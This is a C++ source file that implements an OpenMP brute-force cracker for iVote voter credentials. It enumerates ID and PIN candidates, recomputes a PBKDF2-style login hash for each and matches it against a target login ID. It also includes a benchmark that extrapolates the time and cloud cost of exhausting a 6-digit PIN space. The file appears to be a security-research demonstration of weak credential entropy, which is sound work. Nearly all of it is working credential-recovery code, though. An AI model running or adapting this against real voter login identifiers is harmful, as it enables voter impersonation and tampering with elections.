#include "ivote/bruteforce.hpp"

#include <omp.h>

#include <atomic>
#include <chrono>
#include <cmath>
#include <cstring>

#include "ivote/errors.hpp"
#include "ivote/pbkdf2_kernel.hpp"

namespace ivote::bruteforce {

namespace {

// Chunk of candidates a worker claims at a time. Also the cadence at which
// the stop signal and time budget are re-checked (bound is 256).
constexpr std::uint64_t kChunk = 64;

double now_seconds() {
  return std::chrono::duration<double>(
             std::chrono::steady_clock::now().time_since_epoch())
      .count();
}

std::uint64_t pow10_u64(int exp) {
  std::uint64_t v = 1;
  for (int i = 0; i < exp; ++i) {
    if (__builtin_mul_overflow(v, 10ULL, &v))
      throw ValidationError("keyspace exceeds 64 bits");
  }
  return v;
}

std::string zero_padded(std::uint64_t value, int digits) {
  std::string out(static_cast<std::size_t>(digits), '0');
  for (int i = digits - 1; i >= 0 && value > 0; --i) {
    out[static_cast<std::size_t>(i)] = static_cast<char>('0' + value % 10);
    value /= 10;
  }
  return out;
}

}  // namespace

std::uint64_t Keyspace::candidate_count() const {
  if (pin_digits < 1 || iterations < 1 || id_digits < 1)
    throw ValidationError("keyspace dimensions must be positive");
  std::uint64_t pins = pow10_u64(pin_digits);
  if (fixed_id) return pins;
  std::uint64_t ids = pow10_u64(id_digits);
  std::uint64_t total;
  if (__builtin_mul_overflow(ids, pins, &total))
    throw ValidationError("keyspace exceeds 64 bits");
  return total;
}

Credentials Keyspace::candidate(std::uint64_t index) const {
  const std::uint64_t pins = pow10_u64(pin_digits);
  if (fixed_id) return {*fixed_id, zero_padded(index, pin_digits)};
  // PIN-major within each id, ids ascending.
  return {zero_padded(index / pins, id_digits),
          zero_padded(index % pins, pin_digits)};
}

SpaceSize search_space_size(const Keyspace& ks) {
  SpaceSize out;
  out.candidates = ks.candidate_count();
  if (__builtin_mul_overflow(out.candidates,
                             static_cast<std::uint64_t>(ks.iterations),
                             &out.hash_operations))
    throw ValidationError("hash-operation count exceeds 64 bits");
  out.log2_hash_operations =
      std::log2(static_cast<double>(out.hash_operations));
  return out;
}

std::vector<WorkUnit> partition_keyspace(std::uint64_t total, int units) {
  if (units < 1) throw ValidationError("need at least one unit");
  std::vector<WorkUnit> out;
  out.reserve(static_cast<std::size_t>(units));
  const std::uint64_t base = total / static_cast<std::uint64_t>(units);
  const std::uint64_t extra = total % static_cast<std::uint64_t>(units);
  std::uint64_t begin = 0;
  for (int i = 0; i < units; ++i) {
    std::uint64_t len = base + (static_cast<std::uint64_t>(i) < extra ? 1 : 0);
    out.push_back({begin, begin + len});
    begin += len;
  }
  return out;
}

nlohmann::json CrackResult::to_json() const {
  nlohmann::json j{
      {"candidates_tried", candidates_tried},
      {"exhausted", exhausted},
      {"timed_out", timed_out},
      {"seconds", seconds},
      {"iteration_units_per_second", iteration_units_per_second},
      {"found", creds.has_value()},
  };
  if (creds) {
    j["ivote_id"] = creds->ivote_id;
    j["pin"] = creds->pin;
  }
  return j;
}

CrackResult crack(const std::string& target_login_id, const Keyspace& ks,
                  const CrackOptions& options) {
  if (options.workers < 1) throw ValidationError("workers must be >= 1");
  const Bytes target = hex_decode(target_login_id);
  if (target.size() != 16)
    throw ValidationError("target login id must be 32 hex chars");

  const std::uint64_t total = ks.candidate_count();
  const double t0 = now_seconds();
  const double deadline =
      options.time_budget_s ? t0 + *options.time_budget_s : 0.0;

  std::atomic<std::uint64_t> cursor{0};
  std::atomic<std::uint64_t> found_index{UINT64_MAX};
  std::atomic<std::uint64_t> tried{0};
  std::atomic<bool> out_of_time{false};

  const std::uint64_t pins = [&] {
    std::uint64_t p = 1;
    for (int i = 0; i < ks.pin_digits; ++i) p *= 10;
    return p;
  }();

#pragma omp parallel num_threads(options.workers)
  {
    std::uint8_t digest[16];
    std::uint64_t local_tried = 0;
    while (true) {
      const std::uint64_t begin = cursor.fetch_add(kChunk);
      // A match at index k makes any chunk starting past k irrelevant; this
      // is both the early exit and what keeps the result the lowest match.
      if (begin >= total || begin > found_index.load(std::memory_order_acquire))
        break;
      if (deadline != 0.0 && now_seconds() > deadline) {
        out_of_time.store(true, std::memory_order_relaxed);
        break;
      }
      const std::uint64_t end = std::min(begin + kChunk, total);
      for (std::uint64_t idx = begin; idx < end; ++idx) {
        const std::string id =
            ks.fixed_id ? *ks.fixed_id : zero_padded(idx / pins, ks.id_digits);
        const std::string pin = zero_padded(ks.fixed_id ? idx : idx % pins,
                                            ks.pin_digits);
        candidate_login_hash(id, pin,
                             static_cast<std::uint32_t>(ks.iterations), digest);
        ++local_tried;
        if (std::memcmp(digest, target.data(), 16) == 0) {
          std::uint64_t observed = found_index.load(std::memory_order_relaxed);
          while (idx < observed &&
                 !found_index.compare_exchange_weak(observed, idx)) {
          }
          break;
        }
      }
      if (options.on_progress) {
        const std::uint64_t so_far =
            tried.fetch_add(local_tried, std::memory_order_relaxed) +
            local_tried;
        local_tried = 0;
        const double elapsed = now_seconds() - t0;
        Progress p;
        p.candidates_tried = so_far;
        p.seconds = elapsed;
        p.iteration_units_per_second =
            elapsed > 0 ? static_cast<double>(so_far) * ks.iterations / elapsed
                        : 0.0;
        p.candidates_total = total;
#pragma omp critical(progress)
        options.on_progress(p);
      }
    }
    if (local_tried) tried.fetch_add(local_tried, std::memory_order_relaxed);
  }

  CrackResult result;
  result.seconds = now_seconds() - t0;
  result.candidates_tried = tried.load();
  result.timed_out = out_of_time.load() && found_index.load() == UINT64_MAX;
  result.exhausted = !result.timed_out && found_index.load() == UINT64_MAX;
  result.iteration_units_per_second =
      result.seconds > 0
          ? static_cast<double>(result.candidates_tried) * ks.iterations /
                result.seconds
          : 0.0;
  const std::uint64_t idx = found_index.load();
  if (idx != UINT64_MAX) result.creds = ks.candidate(idx);
  return result;
}

CrackResult crack_serial(const std::string& target_login_id, const Keyspace& ks,
                         std::optional<double> time_budget_s) {
  const std::uint64_t total = ks.candidate_count();
  const double t0 = now_seconds();
  KdfParams params{ks.iterations, ks.id_digits, ks.pin_digits};

  CrackResult result;
  for (std::uint64_t idx = 0; idx < total; ++idx) {
    if (time_budget_s && (idx % kChunk == 0) &&
        now_seconds() - t0 > *time_budget_s) {
      result.timed_out = true;
      break;
    }
    const Credentials creds = ks.candidate(idx);
    ++result.candidates_tried;
    if (derive_login_id(creds, params) == target_login_id) {
      result.creds = creds;
      break;
    }
  }
  result.seconds = now_seconds() - t0;
  result.exhausted = !result.creds && !result.timed_out;
  result.iteration_units_per_second =
      result.seconds > 0
          ? static_cast<double>(result.candidates_tried) * ks.iterations /
                result.seconds
          : 0.0;
  return result;
}

double BenchReport::extrapolate_6digit_seconds(
    double iteration_units_per_second) {
  if (iteration_units_per_second <= 0) return 0.0;
  return 1e6 * 8000.0 / iteration_units_per_second;
}

double BenchReport::cost_usd(double seconds, int cores,
                             double price_per_core_hour) {
  return seconds / 3600.0 * cores * price_per_core_hour;
}

nlohmann::json BenchReport::to_json() const {
  return nlohmann::json{
      {"workers", workers},
      {"sample_candidates", sample_candidates},
      {"iterations", iterations},
      {"seconds", seconds},
      {"pbkdf2_calls_per_second", pbkdf2_calls_per_second},
      {"iteration_units_per_second", iteration_units_per_second},
      {"extrapolated_6digit_seconds", extrapolated_6digit_seconds},
      {"extrapolated_6digit_minutes", extrapolated_6digit_seconds / 60.0},
      {"extrapolated_6digit_cost_usd", extrapolated_6digit_cost_usd},
      {"price_per_core_hour", price_per_core_hour},
  };
}

BenchReport benchmark(int workers, std::uint64_t sample_candidates,
                      int iterations, double price_per_core_hour) {
  if (workers < 1) throw ValidationError("workers must be >= 1");
  if (sample_candidates < 1)
    throw ValidationError("sample must be at least one candidate");

  const double t0 = now_seconds();
#pragma omp parallel for schedule(dynamic, 16) num_threads(workers)
  for (std::int64_t i = 0; i < static_cast<std::int64_t>(sample_candidates);
       ++i) {
    std::uint8_t digest[16];
    candidate_login_hash("00000000",
                         zero_padded(static_cast<std::uint64_t>(i) % 1000000, 6),
                         static_cast<std::uint32_t>(iterations), digest);
    // Fold the digest into a volatile sink so the loop cannot be elided.
    volatile std::uint8_t sink = digest[0];
    (void)sink;
  }
  const double elapsed = now_seconds() - t0;

  BenchReport report;
  report.workers = workers;
  report.sample_candidates = sample_candidates;
  report.iterations = iterations;
  report.seconds = elapsed;
  report.pbkdf2_calls_per_second =
      elapsed > 0 ? static_cast<double>(sample_candidates) / elapsed : 0.0;
  report.iteration_units_per_second =
      report.pbkdf2_calls_per_second * iterations;
  report.extrapolated_6digit_seconds =
      BenchReport::extrapolate_6digit_seconds(report.iteration_units_per_second);
  report.price_per_core_hour = price_per_core_hour;
  report.extrapolated_6digit_cost_usd = BenchReport::cost_usd(
      report.extrapolated_6digit_seconds, workers, price_per_core_hour);
  return report;
}

}  // namespace ivote::bruteforce
